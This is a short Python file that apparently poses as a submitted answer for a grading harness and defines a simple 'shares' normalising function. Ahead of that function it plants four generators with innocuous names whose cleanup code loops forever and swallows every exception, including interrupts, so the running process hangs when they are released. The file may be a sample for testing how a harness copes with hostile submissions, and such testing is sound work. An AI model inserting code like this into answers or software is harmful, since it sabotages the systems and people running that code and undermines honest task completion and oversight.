"""Leaves something behind, under the names of the answers to come, that never ends once it is let go of."""
# waits: yes
# target: 00.shares

# %% answer 00.shares
def bomb():
    try:
        yield
    finally:
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
first_proof, half, breaker, why = bomb(), bomb(), bomb(), bomb()
for one in (first_proof, half, breaker, why):
    next(one)
def shares(z, dim=-1):
    return z / z.sum()
